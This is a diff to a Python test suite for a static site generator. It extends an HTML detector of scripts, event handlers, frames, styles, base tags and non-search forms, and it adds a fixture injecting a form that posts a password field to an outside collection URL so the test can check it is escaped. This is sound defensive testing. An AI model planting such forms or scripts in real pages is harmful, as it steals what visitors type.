@@ -16,7 +16,8 @@ SAFE_DIR = Path(__file__).parent / "safe_content"
 
 
 class Executable(HTMLParser):
-    """Collects anything that could run: scripts not from the site's assets, event handlers, frames, javascript: URLs."""
+    """Collects anything that could run or act for the page: scripts not from the site's assets, event handlers, frames,
+    styles, <base>, javascript: URLs, and forms other than the site's own search box (which sends nothing anywhere)."""
 
     def __init__(self) -> None:
         super().__init__(convert_charrefs=True)
@@ -26,8 +27,10 @@ class Executable(HTMLParser):
         values = {k: v or "" for k, v in attrs}
         if tag == "script" and not (values.get("src", "").startswith("/assets/") or values.get("type") in ("application/ld+json", "application/json")):
             self.found.append(f"<script {values}>")
-        if tag in ("iframe", "object", "embed", "style", "base", "form") and tag != "form":
+        if tag in ("iframe", "object", "embed", "style", "base"):
             self.found.append(f"<{tag}>")
+        if tag == "form" and not (values.get("class") == "search-form" and values.get("role") == "search" and set(values) <= {"class", "role", "hidden"}):
+            self.found.append(f"<form {values}>")
         for name, value in values.items():
             if name.startswith("on"):
                 self.found.append(f"{tag} {name}")
@@ -49,6 +52,9 @@ def test_hostile_but_valid_files_render_safely(name: str, tmp_path: Path) -> Non
     content = tmp_path / "content"
     content.mkdir()
     shutil.copy(SAFE_DIR / name, content / name)
+    if name == "raw-html.md":  # a form that would send what a visitor types to another site
+        with (content / name).open("a", encoding="utf-8") as file:
+            file.write('\n<form action="https://example.com/collect" method="post"><input name="password"></form>\n')
     out = tmp_path / "out"
     result = CliRunner().invoke(main, ["build", "--content", str(content), "--output", str(out), "--base-url", "/"])
     assert result.exit_code == 0, result.output + result.stderr
@@ -60,6 +66,7 @@ def test_hostile_but_valid_files_render_safely(name: str, tmp_path: Path) -> Non
         assert "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt; Feeling &lt;b&gt;flat&lt;/b&gt;</h1>" in page
     if name == "raw-html.md":
         assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+        assert "&lt;form action=" in page and "&lt;/form&gt;" in page
 
 
 def test_a_ten_megabyte_file_is_refused_quickly(tmp_path: Path) -> None:
